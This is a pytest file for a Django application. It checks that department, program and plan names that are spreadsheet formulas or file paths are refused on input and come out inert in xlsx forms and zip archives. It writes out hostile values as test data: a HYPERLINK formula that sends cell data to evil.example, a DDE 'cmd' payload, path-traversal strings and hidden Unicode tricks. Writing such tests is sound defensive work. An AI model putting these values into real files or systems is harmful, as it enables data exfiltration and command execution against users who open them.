"""Finding 9 of issue 17: names cannot become formulas or folders, whichever way they come in or go out."""

import datetime
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from openpyxl import load_workbook

from shinchoku.accounts.models import Department, Organization, User
from shinchoku.imports.department_forms import build_all_forms, build_form
from shinchoku.imports.services import import_plan
from shinchoku.lib.problems import ImportRefused
from shinchoku.lib.validators import safe_file_name, validate_name
from shinchoku.plans import workflow
from shinchoku.plans.models import Plan, Program
from workbooks import small_plan_rows, xlsx

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"開く")',
    "＝1+1",
    "+81",
    "-1+1",
    "＠SUM(A1)",
    "@SUM(A1)",
    "－課",
    "../../x",
    "福祉局/福祉課",
    "福祉局\\福祉課",
    "福祉課\r\n=1+1",
    "\t福祉課",
    "課\u202e名",  # a right-to-left override: the name reads otherwise than it is (insider attack)
    "\u200b=1+1",  # a zero-width space hiding a leading = (insider attack)
    "福祉課\x00",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_finding_9_a_name_that_a_spreadsheet_runs_or_a_file_system_follows_is_refused(name: str) -> None:
    city = Organization.objects.get(jis_code="111007")
    with pytest.raises(ValidationError):
        Department(organization=city, name=name).full_clean()
    plan = Plan.objects.get(slug="saitama-r3")
    with pytest.raises(ValidationError) as refused:
        Program(plan=plan, number=999, title=name).full_clean()
    assert "title" in refused.value.message_dict


@pytest.mark.parametrize(
    "name", ["労働政策課", "福祉局 生活福祉課", "こども未来局　青少年育成課", "A・B連携事業（再掲）", "5-1課"]
)
def test_ordinary_names_are_accepted(name: str) -> None:
    validate_name(name)


def test_every_demo_name_follows_the_rule() -> None:
    for name in [
        *Department.objects.values_list("name", flat=True),
        *Program.objects.values_list("title", flat=True),
    ]:
        validate_name(name)


def test_finding_9_the_admin_refuses_a_formula_department_name(administrator: Client) -> None:
    city = Organization.objects.get(jis_code="111007")
    before = Department.objects.count()
    response = administrator.post(
        "/admin/accounts/department/add/", {"organization": city.pk, "name": "=HYPERLINK(1)", "note": ""}
    )
    assert response.status_code == 200  # the form again, with the error
    assert Department.objects.count() == before


@pytest.mark.parametrize("name", ["../../x", "＝1+1", "福祉局\\福祉課"])
def test_finding_9_the_importer_refuses_a_hostile_department_name(name: str) -> None:
    rows = small_plan_rows()
    rows[7] = [*rows[7][:7], name]
    with pytest.raises(ImportRefused) as refused:
        import_plan(
            name="plan.xlsx",
            content=xlsx(rows),
            organization=Organization.objects.get(jis_code="111007"),
            slug="hostile-names",
            plan_name="x",
            first_year=2021,
            last_year=2025,
            actor=None,
        )
    assert "所管課名" in str(refused.value) and "使えません" in str(refused.value)
    assert not Plan.objects.filter(slug="hostile-names").exists()


def test_finding_9_a_stored_formula_name_is_text_in_every_sheet_of_the_forms_and_no_folder_in_the_zip() -> (
    None
):
    # A name stored before the rule existed (or written around it) must still come out inert.
    plan = Plan.objects.get(slug="saitama-r3")
    workflow.open_year(
        plan=plan,
        fiscal_year=2022,
        deadline=datetime.date(2023, 4, 28),
        actor=User.objects.get(username="jimukyoku"),
    )
    department = Department.objects.get(name="労働政策課")
    hostile = '=HYPERLINK("http://evil.example","開く")'
    Department.objects.filter(pk=department.pk).update(name=hostile)
    Program.objects.filter(pk__in=department.programs.values("pk")).update(title="＋1+1")
    department.refresh_from_db()
    workbook = load_workbook(io.BytesIO(build_form(plan, 2022, department)))
    texts = []
    for sheet in workbook.worksheets:  # the hidden sheet included
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert "'" + hostile in texts and not any(t.startswith(("=", "＋")) and len(t) > 1 for t in texts)

    Department.objects.filter(pk=department.pk).update(name="../../x")
    with zipfile.ZipFile(io.BytesIO(build_all_forms(plan, 2022))) as archive:
        names = archive.namelist()
    assert any(n.endswith("_回答票_.._.._x.xlsx") for n in names), names
    assert not any("/" in n or "\\" in n or n.startswith(".") for n in names), names


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../x", "_.._x"),
        ("a\\b", "a_b"),
        ("..", "_"),
        ("課\r\n名", "課名"),
        ("C:課", "C_課"),
        ("．．／x", "．．_x"),
    ],
)
def test_zip_entry_names_are_one_file_name(name: str, safe: str) -> None:
    assert safe_file_name(name) == safe


@pytest.mark.parametrize("name", ['=cmd|"/C calc"!A0', "計画\n名", "../計画", "計画\u202e名"])
def test_attack_the_importer_refuses_a_hostile_plan_name(name: str) -> None:
    """Found by an insider attack: the plan's name went into every download's file name unchecked."""
    with pytest.raises(ImportRefused) as refused:
        import_plan(
            name="plan.xlsx",
            content=xlsx(small_plan_rows()),
            organization=Organization.objects.get(jis_code="111007"),
            slug="hostile-plan-name",
            plan_name=name,
            first_year=2021,
            last_year=2025,
            actor=None,
        )
    assert "計画の名称" in str(refused.value)
    assert not Plan.objects.filter(slug="hostile-plan-name").exists()
